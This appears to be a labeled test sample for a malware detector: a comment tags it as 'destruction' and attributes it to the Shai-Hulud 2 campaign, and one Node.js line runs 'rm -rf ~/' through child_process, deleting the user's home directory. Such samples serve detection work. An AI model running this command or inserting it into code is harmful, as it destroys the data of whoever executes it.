// expect: destruction | source: Shai-Hulud 2, November 2025
require("child_process").execSync("rm -rf ~/");
